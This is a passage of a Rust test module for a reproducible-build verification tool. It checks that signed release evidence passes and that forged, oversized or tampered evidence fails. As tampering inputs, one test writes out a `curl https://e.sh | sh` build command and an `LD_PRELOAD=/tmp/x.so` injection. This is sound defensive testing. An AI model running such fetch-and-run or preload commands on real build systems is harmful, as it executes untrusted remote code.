//! The checks over evidence folders made without an engine ([`crate::testing`]): a genuine
//! release passes, and each way of fooling `verify` found by attacking it fails.

use std::path::{Path, PathBuf};
use std::process::Command;

use reprove_attest::verify::Signer;
use reprove_attest::{KeyAlgorithm, PrivateKey};
use reprove_source::{Repository, Tag};
use serde_json::{Value, json};

use super::*;
use crate::testing::{signed_provenance, synthetic_release, synthetic_report};

const IMAGE: &str = "registry.example/build@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

struct Fx {
    dir: tempfile::TempDir,
    key: PrivateKey,
}

impl Fx {
    /// A repository of project `name` with tags `v1.0.0` (and `v0.9.0` before it), a dist
    /// folder, and a signed evidence folder for `v1.0.0`.
    fn new(name: &str) -> Fx {
        let fx = Fx {
            dir: tempfile::tempdir().unwrap(),
            key: PrivateKey::generate(KeyAlgorithm::P256).unwrap(),
        };
        std::fs::create_dir_all(fx.repo_dir()).unwrap();
        std::fs::create_dir_all(fx.dist()).unwrap();
        std::fs::write(fx.dist().join("app.txt"), b"app 1\n").unwrap();
        std::fs::write(fx.dist().join("lib.txt"), b"lib 1\n").unwrap();
        fx.git(&["init", "-q", "-b", "main"]);
        std::fs::write(
            fx.repo_dir().join("reprove.toml"),
            format!(
                "[project]\nname = \"{name}\"\nrepository = \"https://example.com/{name}\"\n\n[build]\nimage = \"{IMAGE}\"\ncommand = [\"make\", \"dist\"]\nartifacts = [\"dist/*\"]\nenv = {{ CC = \"gcc\" }}\n"
            ),
        )
        .unwrap();
        fx.git(&["add", "-A"]);
        fx.git(&[
            "commit",
            "-q",
            "-m",
            "one\n\nReviewed-by: R <r@example.com>",
        ]);
        fx.git(&["tag", "v0.9.0"]);
        std::fs::write(fx.repo_dir().join("src.c"), b"int main(){}\n").unwrap();
        fx.git(&["add", "-A"]);
        fx.git(&[
            "commit",
            "-q",
            "-m",
            "two\n\nReviewed-by: R <r@example.com>",
        ]);
        fx.git(&["tag", "v1.0.0"]);
        synthetic_release(
            &fx.repo(),
            &tag("v1.0.0"),
            &fx.dist(),
            &fx.key,
            &fx.evidence(),
            true,
        )
        .unwrap();
        fx
    }

    fn git(&self, args: &[&str]) {
        let out = Command::new("git")
            .current_dir(self.repo_dir())
            .args(args)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", self.dir.path())
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_AUTHOR_NAME", "A")
            .env("GIT_AUTHOR_EMAIL", "a@example.com")
            .env("GIT_COMMITTER_NAME", "C")
            .env("GIT_COMMITTER_EMAIL", "c@example.com")
            .env("GIT_AUTHOR_DATE", "@1700000000 +0000")
            .env("GIT_COMMITTER_DATE", "@1700000000 +0000")
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {out:?}");
    }

    fn repo_dir(&self) -> PathBuf {
        self.dir.path().join("repo")
    }
    fn repo(&self) -> Repository {
        Repository::discover(&self.repo_dir()).unwrap()
    }
    fn dist(&self) -> PathBuf {
        self.dir.path().join("dist")
    }
    fn evidence(&self) -> PathBuf {
        self.dir.path().join("evidence/v1.0.0")
    }
    fn signer(&self) -> Signer {
        Signer::Key {
            key: self.key.public_key(),
        }
    }

    fn verify_with(&self, f: impl FnOnce(&mut Options<'_>)) -> VerifyReport {
        let repo = self.repo();
        let mut o = Options {
            tag: tag("v1.0.0"),
            evidence: self.evidence(),
            artifacts: Artifacts::Folder(self.dist()),
            published_images: None,
            signers: vec![self.signer()],
            rebuilders: Vec::new(),
            require: 1,
            trusted_root: None,
            project: None,
            source_uri: None,
            repo: Some(&repo),
            images: None,
            rebuild: None,
        };
        f(&mut o);
        verify(&o, &|_| {})
    }

    fn verify(&self) -> VerifyReport {
        self.verify_with(|_| {})
    }
}

fn tag(s: &str) -> Tag {
    s.parse().unwrap()
}

/// The findings of one check, joined, for assertions.
fn findings(r: &VerifyReport, id: &str) -> String {
    let c = r.check(id.parse().unwrap()).unwrap();
    let findings: Vec<String> = c.findings.iter().map(ToString::to_string).collect();
    format!("{:?} {} {}", c.status, c.detail, findings.join(" | "))
}

/// The first finding of `code`, whichever check made it.
fn finding<'a>(r: &'a VerifyReport, code: &str) -> &'a codes::Finding {
    r.checks
        .iter()
        .flat_map(|c| &c.findings)
        .find(|f| f.code == code)
        .unwrap_or_else(|| panic!("no `{code}` finding"))
}

fn assert_verified(r: &VerifyReport) {
    assert_eq!(
        r.verdict,
        VerifyVerdict::Verified,
        "{}",
        r.checks
            .iter()
            .map(|c| format!("{} {:?} {} {:?}", c.id, c.status, c.detail, c.findings))
            .collect::<Vec<_>>()
            .join("\n")
    );
}

#[test]
fn a_genuine_release_verifies_and_names_its_product() {
    let fx = Fx::new("hello");
    let r = fx.verify();
    assert_verified(&r);
    assert_eq!(r.artifacts_checked, ["app.txt", "lib.txt"]);
    assert_eq!(r.project.as_deref(), Some("hello"));
    let ps = findings(&r, "project-source");
    assert!(
        ps.contains("`hello`") && ps.contains("https://example.com/hello"),
        "{ps}"
    );
    // Requiring the right product passes, in any URL form.
    let r = fx.verify_with(|o| {
        o.project = Some("hello".into());
        o.source_uri = Some("git@example.com:hello.git".into());
    });
    assert_verified(&r);
}

#[test]
fn another_products_genuine_release_fails_when_the_product_is_named() {
    // Same key, same tag name, another product: signed and intact, but not what the auditor
    // asked about.
    let other = Fx::new("other");
    let r = other.verify_with(|o| {
        o.project = Some("hello".into());
        o.source_uri = Some("https://example.com/hello".into());
    });
    assert_eq!(r.verdict, VerifyVerdict::Failed);
    let f = findings(&r, "project-source");
    assert!(
        f.contains("wrong-project") && f.contains("wrong-source"),
        "{f}"
    );
    let wrong = finding(&r, "wrong-project");
    assert_eq!(wrong.expected(), Some("hello"));
    assert_eq!(wrong.actual(), Some("other"));
}

#[test]
fn no_artifacts_is_said_and_single_files_are_checked_alone() {
    let fx = Fx::new("hello");
    let r = fx.verify_with(|o| o.artifacts = Artifacts::NotChecked);
    assert_eq!(r.verdict, VerifyVerdict::VerifiedNoArtifactsChecked);
    let vsa = summary(&r, 1, "t".into());
    assert!(
        vsa.predicate
            .verified_levels
            .contains(&summary::NO_ARTIFACTS_CHECKED.to_owned())
    );
    // One file checked: the other subject is not required, and the VSA names only it.
    let r = fx.verify_with(|o| o.artifacts = Artifacts::Files(vec![fx.dist().join("app.txt")]));
    assert_verified(&r);
    assert_eq!(r.artifacts_checked, ["app.txt"]);
    let vsa = summary(&r, 1, "t".into());
    assert_eq!(vsa.subject.len(), 1);
    // A file whose bytes differ, or that no subject names, fails.
    let odd = fx.dir.path().join("app.txt");
    std::fs::write(&odd, b"tampered").unwrap();
    let r = fx.verify_with(|o| o.artifacts = Artifacts::Files(vec![odd.clone()]));
    assert!(findings(&r, "artifact-digests").contains("digest-mismatch"));
    let r = fx.verify_with(|o| o.artifacts = Artifacts::Files(vec![fx.repo_dir().join("src.c")]));
    assert!(findings(&r, "artifact-digests").contains("unattested-artifact"));
}

#[test]
fn every_entry_of_the_artifacts_folder_counts() {
    for (what, make) in [
        (
            "folder",
            &(|d: &Path| std::fs::create_dir(d.join("extra")).unwrap()) as &dyn Fn(&Path),
        ),
        ("symlink", &|d: &Path| {
            std::os::unix::fs::symlink("app.txt", d.join("latest.txt")).unwrap()
        }),
        ("FIFO", &|d: &Path| {
            assert!(
                Command::new("mkfifo")
                    .arg(d.join("pipe"))
                    .status()
                    .unwrap()
                    .success()
            )
        }),
        ("file", &|d: &Path| {
            std::fs::write(d.join("SHA256SUMS"), b"x").unwrap()
        }),
    ] {
        let fx = Fx::new("hello");
        make(&fx.dist());
        let r = fx.verify();
        assert_eq!(r.verdict, VerifyVerdict::Failed, "{what}");
        assert!(
            findings(&r, "artifact-digests").contains("unattested-artifact"),
            "{what}: {}",
            findings(&r, "artifact-digests")
        );
    }
}

#[test]
fn a_fifo_or_a_link_to_dev_zero_in_the_evidence_neither_hangs_nor_passes() {
    let fx = Fx::new("hello");
    let fifo = fx.evidence().join("provenance-x.sigstore.json");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let r = fx.verify();
    assert_eq!(r.verdict, VerifyVerdict::Failed);
    assert!(findings(&r, "evidence-index").contains("not-regular-file"));

    let fx = Fx::new("hello");
    let b = fx.evidence().join(evidence::BASELINE);
    std::fs::remove_file(&b).unwrap();
    std::os::unix::fs::symlink("/dev/zero", &b).unwrap();
    let r = fx.verify();
    assert_eq!(r.verdict, VerifyVerdict::Failed);
    assert!(findings(&r, "baseline-signature").contains("not-regular-file"));
}

#[test]
fn a_huge_statement_is_refused_before_it_is_parsed() {
    let fx = Fx::new("hello");
    let b = fx.evidence().join(evidence::BASELINE);
    let f = std::fs::File::create(&b).unwrap();
    f.set_len(reprove_attest::signed::MAX_BUNDLE_BYTES + 1)
        .unwrap();
    let r = fx.verify();
    assert!(findings(&r, "baseline-signature").contains("too-large"));
}

/// Adds another rebuilder's provenance, made from the synthetic report after `tweak`.
fn add_rebuilder(
    fx: &Fx,
    name: &str,
    key: &PrivateKey,
    tweak: impl FnOnce(&mut reprove_build::RebuildReport),
) {
    let mut report = synthetic_report(&fx.repo(), &tag("v1.0.0"), &fx.dist()).unwrap();
    tweak(&mut report);
    let bundle = signed_provenance(&fx.repo(), &report, key).unwrap();
    std::fs::write(
        fx.evidence()
            .join(format!("provenance-{name}.sigstore.json")),
        bundle,
    )
    .unwrap();
}

/// Verify requiring the release signer and `rebuilder`.
fn two_signers(fx: &Fx, rebuilder: &PrivateKey) -> VerifyReport {
    fx.verify_with(|o| {
        o.rebuilders.push(Signer::Key {
            key: rebuilder.public_key(),
        });
        o.require = 2;
    })
}

#[test]
fn a_second_rebuilder_counts_only_when_it_built_the_same_way() {
    let fx = Fx::new("hello");
    let bob = PrivateKey::generate(KeyAlgorithm::P256).unwrap();
    let two = |fx: &Fx| two_signers(fx, &bob);
    add_rebuilder(&fx, "bob", &bob, |_| {});
    assert_verified(&two(&fx));

    // Regression (issue 11): another image, a `curl | sh` command and host network were
    // counted as agreeing.
    for (what, tweak) in [
        (
            "image",
            Box::new(|r: &mut reprove_build::RebuildReport| {
                r.recipe.image = "registry.example/other@sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
                    .parse()
                    .unwrap();
            }) as Box<dyn Fn(&mut reprove_build::RebuildReport)>,
        ),
        (
            "command",
            Box::new(|r: &mut reprove_build::RebuildReport| {
                r.recipe.command = vec!["sh".into(), "-c".into(), "curl https://e.sh | sh".into()];
            }),
        ),
        (
            "network",
            Box::new(|r: &mut reprove_build::RebuildReport| r.network = "host".into()),
        ),
        // Recipe == Recipe: every field of the one schema counts, defaults included.
        (
            "timeout",
            Box::new(|r: &mut reprove_build::RebuildReport| r.recipe.timeout += 1),
        ),
        (
            "workdir",
            Box::new(|r: &mut reprove_build::RebuildReport| r.recipe.workdir = Some("sub".into())),
        ),
        (
            "user",
            Box::new(|r: &mut reprove_build::RebuildReport| r.recipe.user = Some("0:0".into())),
        ),
        (
            "artifacts",
            Box::new(|r: &mut reprove_build::RebuildReport| r.recipe.artifacts.push("*".into())),
        ),
        (
            "environment",
            Box::new(|r: &mut reprove_build::RebuildReport| {
                r.conditions
                    .environment
                    .insert("LD_PRELOAD".into(), "/tmp/x.so".into());
            }),
        ),
    ] {
        let fx = Fx::new("hello");
        add_rebuilder(&fx, "bob", &bob, |r| tweak(r));
        let r = two(&fx);
        assert_eq!(r.verdict, VerifyVerdict::Failed, "{what}");
        let f = findings(&r, "provenance-signature");
        assert!(
            f.contains("not-enough-rebuilders") && f.contains("not counted"),
            "{what}: {f}"
        );
        // With one required, the genuine release still verifies: the odd one is not counted.
        assert_verified(&fx.verify_with(|o| {
            o.rebuilders.push(Signer::Key {
                key: bob.public_key(),
            })
        }));
    }
}

/// Regression (found on zlib's evidence made a day earlier): a release made before reprove
/// handed builds `REPROVE_SOURCE_COMMIT`/`REPROVE_SOURCE_TAG` failed `verify` with
/// `environment-mismatch`, though its environment was the reference one of its time. Only that
/// shape is accepted: any other difference still fails.
#[test]
fn a_provenance_made_before_the_source_variables_still_agrees() {
    let bob = PrivateKey::generate(KeyAlgorithm::P256).unwrap();
    let two = |fx: &Fx| two_signers(fx, &bob);
    let older = |r: &mut reprove_build::RebuildReport| {
        r.conditions
            .environment
            .remove(reprove_build_types::SOURCE_COMMIT_VAR);
        r.conditions
            .environment
            .remove(reprove_build_types::SOURCE_TAG_VAR);
    };
    let fx = Fx::new("hello");
    add_rebuilder(&fx, "bob", &bob, older);
    assert_verified(&two(&fx));
    // Without only one of them, or with it changed, it is not the older shape.
    for tweak in [
        Box::new(|r: &mut reprove_build::RebuildReport| {
            r.conditions
                .environment
                .remove(reprove_build_types::SOURCE_TAG_VAR);
        }) as Box<dyn Fn(&mut reprove_build::RebuildReport)>,
        Box::new(|r: &mut reprove_build::RebuildReport| {
            r.conditions.environment.insert(
                reprove_build_types::SOURCE_COMMIT_VAR.into(),
                "0".repeat(40),
            );
        }),
        Box::new(move |r: &mut reprove_build::RebuildReport| {
            older(r);
            r.conditions.environment.insert("TZ".into(), "XYZ".into());
        }),
    ] {
        let fx = Fx::new("hello");
        add_rebuilder(&fx, "bob", &bob, |r| tweak(r));
        assert_eq!(two(&fx).verdict, VerifyVerdict::Failed);
    }
}

#[test]
fn provenance_that_is_not_for_this_release_is_not_counted_and_fails_nothing() {
    let fx = Fx::new("hello");
    // A genuine provenance of another release, signed by the trusted key.
    let mut report = synthetic_report(&fx.repo(), &tag("v0.9.0"), &fx.dist()).unwrap();
    report.tag = "v0.9.0".into();
    let bundle = signed_provenance(&fx.repo(), &report, &fx.key).unwrap();
    std::fs::write(fx.evidence().join("provenance-old.sigstore.json"), bundle).unwrap();
    // Another predicate entirely: the baseline bundle, renamed.
    std::fs::copy(
        fx.evidence().join(evidence::BASELINE),
        fx.evidence().join("provenance-baseline.sigstore.json"),
    )
    .unwrap();
    // Signed by a key nobody gave.
    let stranger = PrivateKey::generate(KeyAlgorithm::P256).unwrap();
    add_rebuilder(&fx, "stranger", &stranger, |_| {});
    let r = fx.verify();
    assert_verified(&r);
    let f = findings(&r, "provenance-signature");
    for name in [
        "provenance-old",
        "provenance-baseline",
        "provenance-stranger",
    ] {
        assert!(f.contains(name), "{name} is listed as not counted: {f}");
    }
}

#[test]
fn only_top_level_provenance_may_be_added_to_the_folder() {
    let fx = Fx::new("hello");
    let deep = fx.evidence().join("provenance-x/deep");
    std::fs::create_dir_all(&deep).unwrap();
    std::fs::write(deep.join("anything.sigstore.json"), b"{}").unwrap();
    let r = fx.verify();
    assert_eq!(r.verdict, VerifyVerdict::Failed);
    assert!(findings(&r, "evidence-index").contains("evidence-unlisted"));
}

#[test]
fn a_bundle_with_two_contents_is_a_bad_bundle() {
    // Regression (issue 11): a second, unsigned content beside the signed one.
    let fx = Fx::new("hello");
    let p = fx.evidence().join(evidence::BASELINE);
    let mut b: Value = serde_json::from_slice(&std::fs::read(&p).unwrap()).unwrap();
    b["messageSignature"] =
        json!({"messageDigest": {"algorithm": "SHA2_256", "digest": "AAAA"}, "signature": "AAAA"});
    std::fs::write(&p, serde_json::to_vec(&b).unwrap()).unwrap();
    let r = fx.verify();
    assert_eq!(r.verdict, VerifyVerdict::Failed);
    assert!(findings(&r, "baseline-signature").contains("bad-bundle"));
}

#[test]
fn status_shows_a_failed_release_as_failed() {
    let fx = Fx::new("hello");
    let root = fx.dir.path().join("evidence");
    synthetic_release(
        &fx.repo(),
        &tag("v0.9.0"),
        &fx.dist(),
        &fx.key,
        &root.join("v0.9.0"),
        false,
    )
    .unwrap();
    let list = crate::status::status(
        &fx.repo(),
        &crate::status::Options {
            evidence_root: root,
            signers: vec![fx.signer()],
            trusted_root: None,
            images: None,
        },
    )
    .unwrap();
    let states: Vec<(&str, &str)> = list
        .iter()
        .map(|s| (s.tag.as_str(), s.state.as_str()))
        .collect();
    assert_eq!(states, [("v1.0.0", "verified"), ("v0.9.0", "failed")]);
}

/// Issue 13: a repository with sub-crate tags (`ignore-0.4.33`) and product tags (`15.1.0`)
/// lists its releases newest first by tag date across prefixes, not grouped by prefix.
#[test]
fn status_lists_releases_newest_first_by_tag_date_across_prefixes() {
    let fx = Fx::new("hello");
    for (name, date) in [
        ("ignore-0.4.32", 1_700_000_100),
        ("15.1.0", 1_700_000_200),
        ("ignore-0.4.33", 1_700_000_300),
    ] {
        let out = Command::new("git")
            .current_dir(fx.repo_dir())
            .args(["tag", "-a", "-m", name, name])
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", fx.dir.path())
            .env("GIT_COMMITTER_NAME", "C")
            .env("GIT_COMMITTER_EMAIL", "c@example.com")
            .env("GIT_COMMITTER_DATE", format!("@{date} +0000"))
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
    }
    let list = crate::status::status(
        &fx.repo(),
        &crate::status::Options {
            evidence_root: fx.dir.path().join("evidence"),
            signers: vec![fx.signer()],
            trusted_root: None,
            images: None,
        },
    )
    .unwrap();
    let order: Vec<&str> = list.iter().map(|s| s.tag.as_str()).collect();
    // The lightweight tags carry their commit's date (1700000000): the oldest, by version.
    assert_eq!(
        order,
        [
            "ignore-0.4.33",
            "15.1.0",
            "ignore-0.4.32",
            "v1.0.0",
            "v0.9.0"
        ]
    );
}

#[test]
fn a_rebuilder_key_cannot_sign_for_the_release() {
    // Regression (review of issue 11): every --key could sign the index, the baseline and the
    // primary provenance, so one rebuilder alone made a release "verified".
    let mallory = PrivateKey::generate(KeyAlgorithm::P256).unwrap();
    let fx = Fx::new("hello");
    // The whole folder signed by the rebuilder's key instead of the release key.
    std::fs::remove_dir_all(fx.evidence()).unwrap();
    synthetic_release(
        &fx.repo(),
        &tag("v1.0.0"),
        &fx.dist(),
        &mallory,
        &fx.evidence(),
        true,
    )
    .unwrap();
    let r = fx.verify_with(|o| {
        o.rebuilders.push(Signer::Key {
            key: mallory.public_key(),
        })
    });
    assert_eq!(r.verdict, VerifyVerdict::Failed);
    assert!(findings(&r, "baseline-signature").contains("bad-signature"));
    assert!(findings(&r, "evidence-index").contains("bad-signature"));
}

#[test]
fn the_release_signers_own_old_provenance_fails_nothing() {
    // Regression (review of issue 11): a superseded provenance of the same release, signed by
    // the release key with other digests, turned a genuine release into FAILED.
    let fx = Fx::new("hello");
    add_rebuilder(&fx, "old", &fx.key, |r| {
        for a in r.artifacts.values_mut() {
            a.sha256 = "9".repeat(64);
        }
    });
    let r = fx.verify();
    assert_verified(&r);
    assert!(findings(&r, "provenance-signature").contains("signed by the release signer"));
    // Nor does a second release key (a rotation) add a rebuilder.
    let rotated = PrivateKey::generate(KeyAlgorithm::P256).unwrap();
    add_rebuilder(&fx, "rotated", &rotated, |_| {});
    let r = fx.verify_with(|o| {
        o.signers.push(Signer::Key {
            key: rotated.public_key(),
        });
        o.require = 2;
    });
    assert_eq!(r.verdict, VerifyVerdict::Failed);
    assert!(findings(&r, "provenance-signature").contains("not-enough-rebuilders"));
}

#[test]
fn huge_and_deep_entries_are_refused_without_reading_them() {
    // A sparse terabyte takes no disk and would take hours to hash.
    let fx = Fx::new("hello");
    let big = std::fs::File::create(fx.evidence().join("provenance-zz.sigstore.json")).unwrap();
    big.set_len(1 << 40).unwrap();
    let junk = std::fs::File::create(fx.evidence().join("junk.bin")).unwrap();
    junk.set_len(1 << 40).unwrap();
    let started = std::time::Instant::now();
    let r = fx.verify();
    assert!(started.elapsed() < std::time::Duration::from_secs(60));
    assert!(
        findings(&r, "provenance-signature").contains("provenance-zz.sigstore.json (too-large)")
    );
    assert!(findings(&r, "evidence-index").contains("evidence-unlisted: `junk.bin`"));
    // A listed file swapped for a sparse terabyte: its size alone fails it.
    let fx = Fx::new("hello");
    std::fs::File::create(fx.evidence().join(evidence::REBUILD_REPORT))
        .unwrap()
        .set_len(1 << 40)
        .unwrap();
    let r = fx.verify();
    assert!(
        findings(&r, "evidence-index").contains("(not read)"),
        "{}",
        findings(&r, "evidence-index")
    );
    // A sparse terabyte in the downloaded artifacts that no subject names is never read.
    let fx = Fx::new("hello");
    std::fs::File::create(fx.dist().join("zzz-unlisted.bin"))
        .unwrap()
        .set_len(1 << 40)
        .unwrap();
    let started = std::time::Instant::now();
    let r = fx.verify();
    assert!(started.elapsed() < std::time::Duration::from_secs(60));
    assert!(findings(&r, "artifact-digests").contains("unattested-artifact: `zzz-unlisted.bin`"));
    // Folders nested deeper than any release writes.
    let fx = Fx::new("hello");
    let mut deep = fx.evidence();
    for _ in 0..40 {
        deep = deep.join("d");
    }
    std::fs::create_dir_all(&deep).unwrap();
    let r = fx.verify();
    assert!(findings(&r, "evidence-index").contains("nested deeper"));
}

/// Resolve once: the release takes the recipe and the lockfile digests from the baseline's
/// own parse and hashes; they must be what reading the tree again would give.
#[test]
fn the_baseline_hands_the_release_the_same_recipe_and_lockfiles() {
    let fx = Fx::new("hello");
    std::fs::write(
        fx.repo_dir().join("Cargo.lock"),
        "version = 3\n\n[[package]]\nname = \"a\"\nversion = \"1.0.0\"\n",
    )
    .unwrap();
    std::fs::create_dir_all(fx.repo_dir().join("web")).unwrap();
    std::fs::write(
        fx.repo_dir().join("web/package-lock.json"),
        "{\"lockfileVersion\": 3, \"packages\": {}}\n",
    )
    .unwrap();
    fx.git(&["add", "-A"]);
    fx.git(&[
        "commit",
        "-q",
        "-m",
        "locks\n\nReviewed-by: R <r@example.com>",
    ]);
    fx.git(&["tag", "v1.1.0"]);
    let repo = fx.repo();
    let info = repo.resolve_tag(&tag("v1.1.0")).unwrap();
    let baseline = reprove_baseline::assemble_at(
        &repo,
        &info,
        &reprove_baseline::Options {
            previous: None,
            artifacts: None,
            progress: &|_| {},
        },
    )
    .unwrap();
    let from_tree = crate::provenance::lockfile_digests(&repo, &info.commit).unwrap();
    assert_eq!(from_tree.len(), 2, "{from_tree:?}");
    assert_eq!(
        crate::provenance::lockfiles_of(baseline.predicate()),
        from_tree
    );
    let text = std::fs::read_to_string(fx.repo_dir().join("reprove.toml")).unwrap();
    assert_eq!(
        baseline.recipe().unwrap(),
        reprove_build::parse_recipe(&text, "v1.1.0").unwrap()
    );
}

// The whole pipeline — baseline, rebuild through the engine's job shape, comparison,
// provenance, evidence folder — on the fake engine, then verified as an auditor would.

mod pipeline_on_a_fake_engine {
    use super::*;
    use reprove_build::testing::FakeEngine;
    use reprove_build::{Job, RunEnd};

    /// A build that writes `dist/app.txt` and `dist/lib.txt` as the published ones are, or
    /// with `app` replaced.
    fn builder(app: &'static [u8]) -> FakeEngine {
        FakeEngine::new(move |_job: &Job, tree: &Path| {
            assert!(tree.join("src.c").is_file(), "the source tree is unpacked");
            std::fs::create_dir_all(tree.join("dist")).unwrap();
            std::fs::write(tree.join("dist/app.txt"), app).unwrap();
            std::fs::write(tree.join("dist/lib.txt"), b"lib 1\n").unwrap();
            RunEnd::Exited(0)
        })
    }

    fn release(fx: &Fx, engine: &FakeEngine, out: &Path) -> crate::pipeline::Released {
        crate::pipeline::release_with(
            engine,
            &fx.repo(),
            &tag("v1.0.0"),
            &crate::pipeline::Options {
                artifacts: Some(fx.dist()),
                images: Vec::new(),
                evidence: out.to_owned(),
                force: false,
                engine: Default::default(),
                previous: None,
                fetch: Default::default(),
                recipe: None,
            },
            &fx.key,
            &|_, _| {},
        )
        .unwrap()
    }

    #[test]
    fn a_reproducible_release_verifies_and_the_job_is_hermetic() {
        let fx = Fx::new("hello");
        let engine = builder(b"app 1\n");
        let out = fx.dir.path().join("evidence-fake");
        let r = release(&fx, &engine, &out);
        assert_eq!(r.index.outcome, crate::evidence::ReleaseOutcome::Released);
        assert!(out.join(crate::evidence::PROVENANCE).is_file());
        let log = std::fs::read_to_string(out.join(crate::evidence::BUILD_LOG)).unwrap();
        assert!(log.contains("fake: make dist"), "{log}");
        // What the engine was asked: the pinned image by digest, the recipe, the reference
        // conditions, the outputs to return.
        let jobs = engine.jobs();
        assert_eq!(jobs.len(), 1);
        let job = &jobs[0];
        assert_eq!(job.image, IMAGE);
        assert_eq!(job.command, ["make", "dist"]);
        assert_eq!(job.outputs, ["dist/*"]);
        assert_eq!(job.build_path, reprove_build::BUILD_PATH);
        assert_eq!(job.hostname, reprove_build::HOSTNAME);
        assert_eq!(job.umask, reprove_build::UMASK);
        assert_eq!(job.env.get("CC").map(String::as_str), Some("gcc"));
        assert!(job.env.contains_key("SOURCE_DATE_EPOCH"));
        // The auditor's verification of what the pipeline wrote.
        let report = fx.verify_with(|o| o.evidence = out.clone());
        assert_verified(&report);
        let prov = report.provenance.as_ref().unwrap();
        assert_eq!(
            prov["predicate"]["buildDefinition"]["internalParameters"]["engine"]["name"],
            "fake"
        );
    }

    fn gz(data: &[u8], mtime: u32) -> Vec<u8> {
        use std::io::Write as _;
        let mut e = flate2::GzBuilder::new()
            .mtime(mtime)
            .write(Vec::new(), flate2::Compression::default());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    /// Issue 13: an artifact that differs only in its gzip header is `equivalent`, never
    /// reproducible; a release refuses it unless the recipe's `accept-equivalent` names the
    /// normalization, and then attests the published bytes with the equivalence on record.
    #[test]
    fn an_equivalent_artifact_is_released_only_when_the_recipe_accepts_it() {
        let fx = Fx::new("hello");
        let dist = fx.dir.path().join("dist-gz");
        std::fs::create_dir_all(&dist).unwrap();
        std::fs::write(dist.join("app.gz"), gz(b"app 1\n", 1_600_000_000)).unwrap();
        let engine = FakeEngine::new(move |_job: &Job, tree: &Path| {
            std::fs::create_dir_all(tree.join("dist")).unwrap();
            std::fs::write(tree.join("dist/app.gz"), gz(b"app 1\n", 1_700_000_000)).unwrap();
            RunEnd::Exited(0)
        });
        let release = |tag_name: &str, out: &Path| {
            crate::pipeline::release_with(
                &engine,
                &fx.repo(),
                &tag(tag_name),
                &crate::pipeline::Options {
                    artifacts: Some(dist.clone()),
                    images: Vec::new(),
                    evidence: out.to_owned(),
                    force: false,
                    engine: Default::default(),
                    previous: None,
                    fetch: Default::default(),
                    recipe: None,
                },
                &fx.key,
                &|_, _| {},
            )
            .unwrap()
        };
        let config = |accept: &str| {
            format!(
                "[project]\nname = \"hello\"\nrepository = \"https://example.com/hello\"\n\n[build]\nimage = \"{IMAGE}\"\ncommand = [\"make\", \"dist\"]\nartifacts = [\"dist/*\"]\n{accept}"
            )
        };
        std::fs::write(fx.repo_dir().join("reprove.toml"), config("")).unwrap();
        fx.git(&[
            "commit",
            "-q",
            "-am",
            "gz\n\nReviewed-by: R <r@example.com>",
        ]);
        fx.git(&["tag", "v1.1.0"]);
        let refused = fx.dir.path().join("evidence-refused");
        let r = release("v1.1.0", &refused);
        assert_eq!(r.index.outcome, crate::evidence::ReleaseOutcome::Failed);
        let report = r.report.as_ref().unwrap();
        assert_eq!(report.verdict, reprove_build::RebuildVerdict::Equivalent);
        assert_eq!(
            report.comparison[0].normalizations,
            [reprove_build_types::Normalization::Gzip]
        );
        assert!(
            r.index
                .failures
                .iter()
                .any(|f| f.contains("only equivalent")
                    && f.contains("gzip")
                    && f.contains("accept-equivalent")),
            "{:?}",
            r.index.failures
        );
        assert!(!refused.join(crate::evidence::PROVENANCE).exists());

        std::fs::write(
            fx.repo_dir().join("reprove.toml"),
            config("accept-equivalent = [\"gzip\"]\n"),
        )
        .unwrap();
        fx.git(&[
            "commit",
            "-q",
            "-am",
            "accept\n\nReviewed-by: R <r@example.com>",
        ]);
        fx.git(&["tag", "v1.2.0"]);
        let out = fx.dir.path().join("evidence-accepted");
        let r = release("v1.2.0", &out);
        assert_eq!(r.index.outcome, crate::evidence::ReleaseOutcome::Released);
        let report = fx.verify_with(|o| {
            o.evidence = out.clone();
            o.tag = tag("v1.2.0");
            o.artifacts = Artifacts::Folder(dist.clone());
        });
        assert_verified(&report);
        let prov = report.provenance.as_ref().unwrap();
        let published = reprove_digest::sha256_file(&dist.join("app.gz"))
            .unwrap()
            .0
            .hex();
        assert_eq!(prov["subject"][0]["digest"]["sha256"], published);
        let eq = &prov["predicate"]["buildDefinition"]["internalParameters"]["equivalence"][0];
        assert_eq!(eq["normalizations"], json!(["gzip"]));
        assert_ne!(eq["rebuiltSha256"], eq["publishedSha256"]);
        let agree = report
            .checks
            .iter()
            .find(|c| c.id == CheckId::BaselineProvenanceAgree)
            .unwrap();
        assert!(agree.detail.contains("NOT bit for bit"), "{}", agree.detail);

        // A provenance claiming an equivalence the recipe does not accept disagrees.
        let mut forged = prov.clone();
        forged["predicate"]["buildDefinition"]["internalParameters"]["equivalence"][0]["normalizations"] =
            json!(["gzip", "tar-mtime"]);
        let baseline = report.baseline.as_ref().unwrap();
        let found = provenance_agreement(baseline, &forged);
        assert!(
            found
                .iter()
                .any(|f| f.code == "recipe-mismatch" && f.message.contains("tar-mtime")),
            "{found:?}"
        );
    }

    /// A release tagged before the project had a `[build]` table: released with a recipe
    /// from outside the tag, which the evidence keeps and the provenance names by sha256.
    #[test]
    fn a_tag_without_a_recipe_is_released_with_one_from_outside_and_verifies() {
        let fx = Fx::new("hello");
        let own = std::fs::read(fx.repo_dir().join("reprove.toml")).unwrap();
        std::fs::write(
            fx.repo_dir().join("reprove.toml"),
            "[project]\nname = \"hello\"\nrepository = \"https://example.com/hello\"\n",
        )
        .unwrap();
        fx.git(&["add", "-A"]);
        fx.git(&[
            "commit",
            "-q",
            "-m",
            "old\n\nReviewed-by: R <r@example.com>",
        ]);
        fx.git(&["tag", "v1.1.0"]);
        let outside = crate::pipeline::OutsideRecipe {
            recipe: reprove_build::parse_recipe(std::str::from_utf8(&own).unwrap(), "file")
                .unwrap(),
            external: reprove_build::ExternalRecipe {
                origin: "file reprove.toml".into(),
